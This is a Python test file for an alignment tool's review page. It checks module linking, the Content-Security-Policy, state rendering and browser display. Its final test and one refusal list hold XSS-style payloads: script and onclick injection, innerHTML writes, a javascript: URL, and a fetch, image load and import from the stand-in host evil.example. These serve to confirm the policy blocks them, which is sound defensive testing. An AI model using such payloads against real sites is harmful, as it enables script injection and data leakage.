"""The page of a review: its modules become one script, its policy allows nothing else, and texts are data."""

from __future__ import annotations

import json
import re
from html import unescape

import browsers
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reviewing import ASSETS, example
from strategies import alignments, texts_with_halves
from test_revision_server import AWKWARD

import aligner
from aligner.bitext.edits import Span
from aligner.bitext.texts import Document, Part, Sentences
from aligner.revision.page import linked, render, write
from aligner.revision.revision import Revision
from aligner.revision.view import Counts, dividers, state, title_of


def files_of(**modules):
    """A page with these modules."""
    return {**ASSETS, **{f"{name}.js": source for name, source in modules.items()}}.__getitem__


def element(page, name):
    """What stands in an element with an id."""
    return re.search(rf'<script type="application/json" id="{name}">(.*?)</script>', page.html, re.DOTALL)[1]


def test_a_module_stands_behind_those_that_it_imports():
    files = files_of(
        app="import {b} from './b.js';\nimport {a} from './a.js';\nb();\n",
        a="export const a = 1;\n",
        b="import {a, c} from './a.js';\nexport async function b() { return a; }\nexport function d() {}\n",
    )
    assert linked(files) == (
        "(() => {\n'use strict';\nconst a = 1;\n\nasync function b() { return a; }\nfunction d() {}\n\nb();\n\n})();"
    )


@pytest.mark.parametrize(
    "source",
    [
        "import * as b from './b.js';\n",
        "import b from './b.js';\n",
        "import {a as c} from './a.js';\nexport {c};\n",
        "import {a} from 'https://evil.example/a.js';\n",
        "import {a} from './a.js'; run();\n",
        "export default 1;\n",
        "export {a};\n",
        "export let a = 1;\n",
    ],
)
def test_what_cannot_be_linked_is_refused(source):
    with pytest.raises(aligner.InputError, match=r"app\.js of the page has an import or export that cannot be linked"):
        linked(files_of(app=source, a="export const a = 1;\n"))


def test_modules_that_import_each_other_are_refused():
    with pytest.raises(aligner.InputError, match=r"in a circle, at app\.js"):
        linked(files_of(app="import {b} from './b.js';\n", b="import {a} from './app.js';\n"))


def test_the_policy_allows_our_script_and_style_and_nothing_else():
    served, alone = (render("", "en", given, ASSETS.__getitem__) for given in (None, {"a": 1}))
    directives = dict(each.split(" ", 1) for each in served.policy.split("; "))
    assert directives["default-src"] == directives["base-uri"] == directives["form-action"] == "'none'"
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", directives["script-src"])
    assert directives["connect-src"] == "'self'" and "connect-src 'none'" in alone.policy
    assert "unsafe" not in served.policy
    stated = re.search(r'http-equiv="Content-Security-Policy" content="(.*?)"', served.html)[1]
    assert unescape(stated) == served.policy


def test_a_page_for_a_server_has_no_texts():
    page = render("title", "zh", None, ASSETS.__getitem__)
    assert element(page, "state") == "" and '<html lang="zh-Hans">' in page.html and "<p>鸟与蜂</p>" in page.html
    assert json.loads(element(page, "words")) == {"greeting": {"en": "Birds & bees", "zh": "鸟与蜂"}}
    assert "<p>Birds &amp; bees</p>" in render("title", "en", None, ASSETS.__getitem__).html


@settings(max_examples=50)
@given(st.lists(st.one_of(texts_with_halves, st.sampled_from(AWKWARD)), min_size=1, max_size=4))
def test_any_texts_are_read_back_and_end_no_element(texts):
    given_state = state(Revision.of(example(texts, texts, tuple(texts[:1] * 2))), "a.jsonl", "en")
    page = render(given_state["title"], "en", given_state, ASSETS.__getitem__)
    assert json.loads(element(page, "state")) == given_state
    assert page.html.encode().decode() and page.html.count("</script>") == 3 and "<!--" not in page.html


# The state


@settings(max_examples=100)
@given(alignments())
def test_the_state_has_all_that_a_revision_has(bitext):
    revision = Revision.of(bitext)
    record = json.loads(json.dumps(state(revision, "a.jsonl", "en")))
    for side, sentences in zip(record["sides"], (bitext.source, bitext.target), strict=True):
        assert side["sentences"] == list(sentences) and side["clauses"] == list(sentences.clauses)
        assert side["language"] == sentences.language
    assert record["beads"] == [[len(b.source), len(b.target), b.confidence, b.judgement.code] for b in bitext]


@pytest.mark.parametrize(
    ("origins", "title"),
    [
        (("a/b/论文.zh.docx", "a/b/thesis.en.pdf"), "论文.zh.docx – thesis.en.pdf"),
        (("both.docx", "both.docx"), "both.docx"),
        (("C:\\Users\\me\\a.txt", ""), "a.txt"),
        (("", ""), "file.jsonl"),
        (("x\n\x1b[31m.txt", ""), "x��[31m.txt"),
    ],
)
def test_files_are_named_without_their_folders(origins, title):
    assert title_of(Revision.of(example(("一。",), ("One.",), origins)), "file.jsonl") == title


def test_pages_chapters_and_headings_divide_the_rows():
    texts = ["第一章 绪论", "鸟在这里。", "鸟在那里。", "声音", "结论"]
    raw, spans, start = "\n".join(texts), [], 0
    for text in texts:
        spans.append(Span(start, start + len(text)))
        start += len(text) + 1
    places = [("heading", 1, "a.xhtml"), ("paragraph", 1, "a.xhtml"), ("paragraph", 2, "a.xhtml"),
              ("heading", 2, "b.xhtml"), ("paragraph", 2, "b.xhtml")]  # fmt: skip
    parts = tuple(
        Part(span, kind, number, page, place)
        for number, (span, (kind, page, place)) in enumerate(zip(spans, places, strict=True))
    )
    sentences = Sentences(Document(raw, "zh", "", parts=parts), tuple(spans))
    assert list(dividers(sentences)) == [
        (0, "document", 1, "a.xhtml"), (0, "page", 1, ""), (0, "heading", 1, "第一章 绪论"), (2, "page", 2, ""),
        (3, "document", 2, "b.xhtml"), (3, "heading", 2, "声音"), (4, "heading", 2, "结论"),
    ]  # fmt: skip


def test_the_places_of_cells_and_cues_divide_nothing():
    parts = (Part(Span(0, 2), "cell", 0, 0, "Sheet1!B4"), Part(Span(3, 5), "cue", 1, 0, "00:00:01,000"))
    sentences = Sentences(Document("一。\n二。", "zh", "", parts=parts), (Span(0, 2), Span(3, 5)))
    assert list(dividers(sentences)) == []


def test_counts_are_those_of_the_beads():
    revision = Revision.of(example())
    beads = tuple(bead._replace(code=code) for bead, code in zip(revision.beads, ("a", "ac", "mc", "d"), strict=True))
    counts = Counts.of(Revision(revision.texts, beads, revision.recipe, (), revision.corrections))
    assert counts == Counts(accepted=2, changed=2, marked=1, open=1)
    assert str(counts) == "2 accepted, 2 changed, 1 marked, 1 open"
    assert str(counts._replace(marked=0)) == "2 accepted, 2 changed, 1 open"


# In a browser

REFUSED = re.compile("Content Security Policy|TrustedHTML|TrustedScript")


@pytest.fixture(scope="module")
def browser():
    """The browser, for all tests of this file."""
    with browsers.browser() as running:
        yield running


def opened(browser, address):
    """A window with a page, and what was asked for and complained of in it."""
    page, seen = browser.new_page(), []
    page.on("request", lambda request: seen.append(request.url))
    page.on("console", lambda message: seen.append(message.text))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.goto(address)
    return page, seen


def test_awkward_texts_are_shown_as_text(browser, tmp_path):
    path = tmp_path / "page.html"
    write(
        state(Revision.of(example(AWKWARD, AWKWARD, (AWKWARD[1], AWKWARD[3]))), "a.jsonl", "en"),
        path,
        ASSETS.__getitem__,
    )
    page, seen = opened(browser, path.as_uri())
    assert seen == [path.as_uri()]
    assert page.title().endswith("!") and "taken" not in page.title()
    shown = page.eval_on_selector_all("p", "all => all.map(p => p.textContent)")
    assert set(AWKWARD) - {AWKWARD[5], AWKWARD[6]} <= set(shown)
    assert page.locator("img").count() == 0
    assert page.eval_on_selector("p", "p => getComputedStyle(p).color") == "rgb(1, 2, 3)"


@pytest.mark.parametrize(
    "evil",
    [
        "const s = document.createElement('script'); s.textContent = 'document.title = 1'; document.body.append(s)",
        "const p = document.querySelector('p'); p.setAttribute('onclick', 'document.title = 1'); p.click()",
        "document.querySelector('p').innerHTML = '<b>x</b>'",
        "fetch('https://evil.example/')",
        "const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i)",
        "location.href = 'javascript:document.title = 1'",
    ],
)
def test_the_policy_stops_what_would_get_through(browser, tmp_path, evil):
    path = tmp_path / "page.html"
    files = files_of(app=f"const early = document.title; setTimeout(() => {{ {evil}; }}, 0);\n")
    write(state(Revision.of(example()), "a.jsonl", "en"), path, files)
    page = browser.new_page()
    # What is refused is said to the console.
    with page.expect_console_message(lambda message: REFUSED.search(message.text)):
        page.goto(path.as_uri())
    assert page.title() == "birds.zh.txt – birds.en.txt" and page.locator("b").count() == 0
